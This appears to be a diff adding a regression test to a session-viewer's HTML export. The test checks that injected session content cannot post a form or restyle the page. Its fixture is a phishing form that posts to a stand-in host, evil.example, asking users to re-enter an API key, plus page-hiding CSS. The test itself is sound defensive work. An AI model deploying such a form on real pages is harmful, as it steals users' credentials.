@@ -6,7 +6,7 @@
  */
 import assert from "node:assert/strict";
 import { type ChildProcess, spawn } from "node:child_process";
-import { readFileSync } from "node:fs";
+import { readFileSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { pathToFileURL } from "node:url";
 import { after, before, describe, it } from "node:test";
@@ -323,5 +323,33 @@ describe("bonsai view", () => {
     } finally {
       await view.stop();
     }
+  });
+});
+
+/** Issue 26, defect 4: session text can neither post a form away nor restyle the page. */
+describe("a session written to phish", () => {
+  it("renders no form and no style from the session, and the page forbids posting anywhere", async () => {
+    const file = join(dir, "phish.jsonl");
+    const form = '<form action="https://evil.example/steal" method="post"><p>Session expired: re-enter your API key</p><input name="key"><button>Continue</button></form>';
+    const style = "<style>body { display: none !important }</style><p style=\"position:fixed;inset:0;background:red\">covered</p>";
+    writeFileSync(
+      file,
+      `${[
+        { type: "session", version: 3, id: "phish", timestamp: "2026-01-01T00:00:00.000Z", cwd: "/tmp" },
+        { type: "message", id: "u1", parentId: null, timestamp: "2026-01-01T00:00:01.000Z", message: { role: "user", content: `${form}\n\n${style}`, timestamp: 1 } },
+      ]
+        .map((l) => JSON.stringify(l))
+        .join("\n")}\n`,
+    );
+    const { url } = await exportHtml(file, "phish.html");
+    assert.match(readFileSync(join(dir, "phish.html"), "utf8"), /form-action 'none'; base-uri 'none'/);
+    const { page, errors } = await open(`${url}#u1`);
+    await page.locator('#entries article[data-id="u1"]').waitFor();
+    assert.equal(await page.locator("#entries form, #entries input, #entries button:not(.show-original), #entries style").count(), 0);
+    assert.equal(await page.locator('#entries article[data-id="u1"] .md [style]').count(), 0, "no style attribute from the session");
+    assert.ok(await page.locator("body").isVisible(), "the page is not restyled away");
+    assert.match((await page.locator('#entries article[data-id="u1"]').textContent()) ?? "", /re-enter your API key/);
+    assert.deepEqual(errors, []);
+    await page.close();
   });
 });
